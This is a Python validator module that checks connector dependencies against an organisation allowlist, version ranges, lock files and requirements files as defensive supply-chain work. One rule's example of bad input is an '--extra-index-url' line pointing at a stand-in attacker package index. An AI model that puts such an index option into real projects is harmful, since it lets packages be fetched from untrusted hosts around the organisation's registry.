"""Dependencies suite: every requirement names an allowed distribution and stays inside its allowed range.

Sources — every place a connector declares a requirement that ships with it or runs when it is built:

* pyproject.toml: ``[project].dependencies``, every ``[project].optional-dependencies`` extra (a user
  installs ``connector[extra]``), ``[dependency-groups]`` (PEP 735) except dev/test/docs/lint/ci groups,
  and ``[build-system].requires`` — checked for direct URL/VCS requirements and syntax only (D004,
  D005): a build backend is not a runtime dependency, and which backends may build a connector is the
  packaging rules' decision;
* ``requirements*.txt`` and ``requirements/*.txt`` (dev/test/docs files skipped: they do not ship),
  following ``-r``/``-c`` includes inside the connector (an included file is checked whatever its name);
* lock-file pins in ``uv.lock`` and ``pylock.toml``.
Names are compared in PEP 503 form; ranges by true set containment (:mod:`cdk.validators.specifiers`).
"""

from __future__ import annotations

import re
from pathlib import Path
from typing import TYPE_CHECKING, Any

from cdk.findings import Finding
from cdk.validators.astutil import find_key_line
from cdk.validators.findings import Rule, make
from cdk.validators.policy import Policy

if TYPE_CHECKING:
    from cdk.project import Project

RULES = [
    Rule(
        "D001",
        "dependencies",
        "dependency not allowed",
        "the dependency is not on the allowlist",
        "use an allowed library, or ask for it to be added to the organisation policy",
        bad='dependencies = ["leftpad-py>=1.0"]',
        good='dependencies = ["requests>=2.31,<3"]',
    ),
    Rule(
        "D002",
        "dependencies",
        "dependency without version bound",
        "the dependency admits every version",
        "give it a range inside the allowed one",
        bad='dependencies = ["requests"]',
        good='dependencies = ["requests>=2.31,<3"]',
    ),
    Rule(
        "D003",
        "dependencies",
        "range wider than allowed",
        "the dependency admits versions outside the allowed range",
        "narrow the specifier so that every version it admits is allowed",
        bad='dependencies = ["requests>=2.0"]  # allowed: >=2.31,<3',
        good='dependencies = ["requests>=2.31,<3"]',
    ),
    Rule(
        "D004",
        "dependencies",
        "direct URL or VCS requirement",
        "direct URL, path and VCS requirements are refused",
        "depend on a released version from the registry",
        bad='dependencies = ["requests @ git+https://github.com/psf/requests"]',
        good='dependencies = ["requests>=2.31,<3"]',
    ),
    Rule(
        "D005",
        "dependencies",
        "unparsable requirement",
        "the requirement is not valid PEP 508",
        "write name[extras] specifier ; marker",
        bad='dependencies = ["requests >> 2"]',
        good='dependencies = ["requests>=2.31,<3"]',
    ),
    Rule(
        "D006",
        "dependencies",
        "locked version outside allowed range",
        "a lock file pins a version outside the allowed range",
        "update the lock file (uv lock) within the allowed range",
        bad='[[package]]\nname = "requests"\nversion = "2.20.0"',
        good='[[package]]\nname = "requests"\nversion = "2.32.3"',
    ),
    Rule(
        "D007",
        "dependencies",
        "locked package not on the allowlist",
        "a lock file pins a package that is not on the allowlist",
        "transitive packages are allowed by waiving D007, or add them to the organisation policy",
        severity="warning",
        waivable=True,
        bad='[[package]]\nname = "leftpad-py"',
        good='[[package]]\nname = "idna"',
    ),
    Rule(
        "D008",
        "dependencies",
        "package index option in a requirements file",
        "--index-url, --extra-index-url, --find-links and --trusted-host make pip fetch packages from"
        " wherever the file says, around the organisation's registry",
        "remove the option; the registry is configured by the organisation (pip.conf, CDK_REGISTRY_URL)",
        bad="--extra-index-url https://pypi.attacker.example/simple\nrequests>=2.31,<3",
        good="requests>=2.31,<3",
    ),
]
INDEX_OPTION = re.compile(
    r"^(-i|--index-url|--extra-index-url|-f|--find-links|--trusted-host|--use-feature)\b"
)
R = {r.code: r for r in RULES}
SKIP_REQ_FILES = re.compile(r"(dev|test|doc|lint|ci)", re.I)


def check_requirement(text: str, file: str, line: int, col: int, allowed: dict[str, str]) -> list[Finding]:
    """Findings for one PEP 508 requirement string."""
    from packaging.requirements import InvalidRequirement, Requirement
    from packaging.utils import canonicalize_name

    from cdk.validators.specifiers import contained

    try:
        req = Requirement(text)
    except InvalidRequirement as exc:
        return [make(R["D005"], file, line, col, f"'{text}' is not a valid requirement: {exc}")]
    name = canonicalize_name(req.name)
    if req.url:
        return [make(R["D004"], file, line, col, f"'{text}': direct URL/VCS requirements are refused")]
    if name not in allowed:
        return [make(R["D001"], file, line, col, f"'{req.name}' is not on the dependency allowlist")]
    allowed_spec = allowed[name]
    if not str(req.specifier):
        if allowed_spec:
            return [
                make(
                    R["D002"],
                    file,
                    line,
                    col,
                    f"'{req.name}' has no version bound; the allowed range is '{allowed_spec}'",
                )
            ]
        return []
    result = contained(req.specifier, allowed_spec)
    if not result.ok:
        return [
            make(
                R["D003"],
                file,
                line,
                col,
                f"'{req.name}{req.specifier}' admits versions outside the allowed '{allowed_spec}' (outside: {result.outside})",
            )
        ]
    return []


def _pyproject(project: Project, allowed: dict[str, str]) -> list[Finding]:
    data = project.pyproject or {}
    found_project = data.get("project")
    proj: dict[str, Any] = found_project if isinstance(found_project, dict) else {}
    sources: list[tuple[str, Any, bool]] = [("dependencies", proj.get("dependencies"), True)]
    extras = proj.get("optional-dependencies")
    if isinstance(extras, dict):
        sources += [(f"optional-dependencies.{k}", v, True) for k, v in extras.items()]
    groups = data.get("dependency-groups")
    if isinstance(groups, dict):
        sources += [
            (f"dependency-groups.{k}", v, True)
            for k, v in groups.items()
            if not SKIP_REQ_FILES.search(str(k))
        ]
    build = data.get("build-system")
    if isinstance(build, dict):
        sources.append(("build-system.requires", build.get("requires"), False))
    if not any(deps for _, deps, _ in sources):
        return []
    from cdk.errors import CdkError
    from cdk.fsutil import read_input_text

    try:
        text = read_input_text(Path(project.root) / "pyproject.toml")
    except CdkError:
        text = ""
    out = []
    for where, deps, full in sources:
        if not isinstance(deps, list):
            continue
        for dep in deps:
            if not isinstance(dep, str):  # e.g. {include-group = "x"} in a dependency group
                continue
            line, col = find_key_line(text, f'"{dep}"')
            if (line, col) == (1, 0):
                line, col = find_key_line(text, f"'{dep}'")
            found = check_requirement(dep, "pyproject.toml", line, col + 1, allowed)
            if not full:
                found = [f for f in found if f.rule in ("D004", "D005")]
            if where != "dependencies":
                found = [_in(f, where) for f in found]
            out.extend(found)
    return out


def _in(finding: Finding, where: str) -> Finding:
    """The finding with the table it came from named in its message."""
    from dataclasses import replace

    return replace(finding, message=f"{finding.message} (in [{where.split('.')[0]}] {where})")


INCLUDE_RE = re.compile(r"^(-r|--requirement|-c|--constraint)(\s+|=)(\S+)")


def _requirement_files(root: Path) -> list[tuple[Path, bool]]:
    """(file, skipped): dev/test/docs files are read for their index options only."""
    files = [*sorted(root.glob("requirements*.txt")), *sorted(root.glob("requirements/*.txt"))]
    return [(p, bool(SKIP_REQ_FILES.search(p.relative_to(root).as_posix()))) for p in files]


def _requirements(project: Project, allowed: dict[str, str]) -> list[Finding]:
    from cdk.errors import CdkError
    from cdk.fsutil import read_input_text

    root = Path(project.root).resolve()
    out: list[Finding] = []
    queue = _requirement_files(root)
    seen: set[Path] = set()
    while queue:
        found, skipped = queue.pop(0)
        path = found.resolve()
        if path in seen or not path.is_relative_to(root):
            continue
        seen.add(path)
        rel = project.rel(path)
        try:
            text = read_input_text(path)
        except CdkError as exc:  # a missing include, a FIFO, not UTF-8: say so, go on
            out.append(make(R["D005"], rel, 1, 0, f"cannot read requirements file: {exc}"))
            continue
        for i, raw in enumerate(text.splitlines(), 1):
            line = raw.split(" #", 1)[0].strip()
            if not line or line.startswith("#"):
                continue
            if INDEX_OPTION.match(line):
                out.append(make(R["D008"], rel, i, raw.find(line[:1]), f"'{line.split()[0]}' in {rel}"))
                continue
            include = INCLUDE_RE.match(line)
            if include:  # an included file counts as its includer (a dev file's includes are dev too)
                queue.append((path.parent / include.group(3), skipped))
                continue
            if skipped:
                continue
            if line.startswith(("-e", "--editable")):
                out.append(make(R["D004"], rel, i, 0, f"'{line}': editable/direct requirements are refused"))
                continue
            if line.startswith("-"):
                continue  # --index-url, --hash ...: options, not requirements
            line = re.split(r"\s+--hash", line)[0].rstrip(" \\")
            if re.match(r"^(git\+|hg\+|svn\+|bzr\+|https?://|file:|\.{0,2}/)", line):
                out.append(make(R["D004"], rel, i, 0, f"'{line}': direct URL/VCS requirements are refused"))
                continue
            out.extend(check_requirement(line, rel, i, raw.find(line[:1]) if line else 0, allowed))
    return out


def _locked(project: Project, policy: Policy, allowed: dict[str, str]) -> list[Finding]:
    from packaging.specifiers import SpecifierSet
    from packaging.utils import canonicalize_name
    from packaging.version import InvalidVersion, Version

    from cdk._compat import tomllib

    out: list[Finding] = []
    own = canonicalize_name(str(((project.pyproject or {}).get("project") or {}).get("name", "")))
    for filename, key in (("uv.lock", "package"), ("pylock.toml", "packages")):
        path = Path(project.root) / filename
        if not path.is_file():
            continue
        text = path.read_text(encoding="utf-8")
        try:
            data = tomllib.loads(text)
        except tomllib.TOMLDecodeError as exc:
            out.append(make(R["D005"], filename, 1, 0, f"{filename} is not valid TOML: {exc}"))
            continue
        lines = text.splitlines()
        cursor = 0
        for pkg in data.get(key) or []:
            name = str(pkg.get("name", ""))
            canon = canonicalize_name(name)
            line = next(
                (
                    j + 1
                    for j in range(cursor, len(lines))
                    if re.match(rf'^name\s*=\s*"{re.escape(name)}"', lines[j])
                ),
                1,
            )
            cursor = max(cursor, line)
            source = pkg.get("source") or {}
            if canon == own or (
                isinstance(source, dict) and ({"editable", "virtual", "directory"} & set(source))
            ):
                continue
            if (
                (isinstance(source, dict) and ({"git", "url", "path"} & set(source)))
                or "vcs" in pkg
                or "archive" in pkg
            ):
                out.append(
                    make(R["D004"], filename, line, 0, f"{filename} locks '{name}' from a URL, path or VCS")
                )
                continue
            if canon not in allowed:
                if policy.unlisted_lock_packages != "off":
                    out.append(
                        make(
                            R["D007"],
                            filename,
                            line,
                            0,
                            f"{filename} locks '{name}', which is not on the allowlist",
                            severity="error" if policy.unlisted_lock_packages == "error" else "warning",
                        )
                    )
                continue
            version = str(pkg.get("version", ""))
            try:
                Version(version)
            except InvalidVersion:
                out.append(
                    make(
                        R["D006"],
                        filename,
                        line,
                        0,
                        f"{filename} locks '{name}' at '{version}', which is not a PEP 440 version",
                    )
                )
                continue
            if not SpecifierSet(allowed[canon]).contains(version, prereleases=True):
                out.append(
                    make(
                        R["D006"],
                        filename,
                        line,
                        0,
                        f"{filename} locks '{name}' at {version}, outside the allowed '{allowed[canon]}'",
                    )
                )
    return out


def check(project: Project, policy: Policy) -> list[Finding]:
    if getattr(project, "code_only", False):
        return []
    allowed = policy.allowed_dependencies
    return _pyproject(project, allowed) + _requirements(project, allowed) + _locked(project, policy, allowed)
